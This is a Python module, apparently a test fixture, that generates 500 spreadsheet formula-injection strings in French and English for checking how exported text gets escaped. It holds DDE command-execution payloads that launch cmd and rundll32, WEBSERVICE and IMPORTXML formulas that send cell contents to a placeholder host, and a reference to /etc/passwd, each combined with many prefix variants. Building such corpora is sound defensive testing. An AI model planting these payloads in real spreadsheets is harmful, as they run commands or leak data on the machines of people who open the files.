"""Texts that a spreadsheet program may take for a formula, a link or a command: 500 of them."""

import itertools

_SIGNS = (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", "'=", "''=", '"=', ";=", ",=",
    "\u00a0=", "\ufeff=", "\u200b=",
)  # fmt: skip
_BODIES = (
    "1+1",
    "SUM(A1:A9)",
    'HYPERLINK("http://x.example","ici")',
    "cmd|' /C calc'!A0",
    'DDE("soffice","/tmp/x","A1")',
    'WEBSERVICE("http://x.example/"&A1)',
    'IMPORTXML("http://x.example","//a")',
    "33 6 39 98 00 01",
    "12,5",
    "A1",
    "{1;2}",
    "rundll32|'x.dll'!A1",
    'IF(1=1,"oui","non")',
    "'file:" "///etc/passwd'#$Feuille1.A1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "INDIRECT(\"A\"&1)",
    "TRUE()",
    "+1",
    "#REF!",
    "1E5",
    "LET(x,1,x)",
    "LAMBDA(x,x)(1)",
    "0012",
)  # fmt: skip
_OTHERS = (
    "http://x.example", "https://x.example/?q=é", "mailto:a@example.org", "internal:Feuille2!A1",
    "external:c:\\x.xlsx", "file:" "//serveur/x", "ftp://x.example", "{=1+1}", "{=SUM(A1)}", "<r>1</r>",
    "<r></r>", "<b>gras</b>", "&amp;", "_x000D_", "_x003D_1+1", "01/02/2026", "1E5", "1,85E+14", "0012",
    "-12", "+33 6 39 98 00 01",
    "12 %", "4 300,00 €", "VRAI", "TRUE", "#N/A", "]]>", "<!--", "'", "''", "'t Hooft", "\u202e=1+1", "’=1+1",
    "Mme D’Arc ; =1+1", 'guillemet " =1+1', "ligne\n=1+1", "ligne\r\n=1+1", "tab\t=1+1", "=", "+", "-", "@",
)  # fmt: skip
PAYLOADS = tuple(
    dict.fromkeys(itertools.chain((sign + body for body in _BODIES for sign in _SIGNS), _OTHERS))
)[:500]
assert len(PAYLOADS) == 500
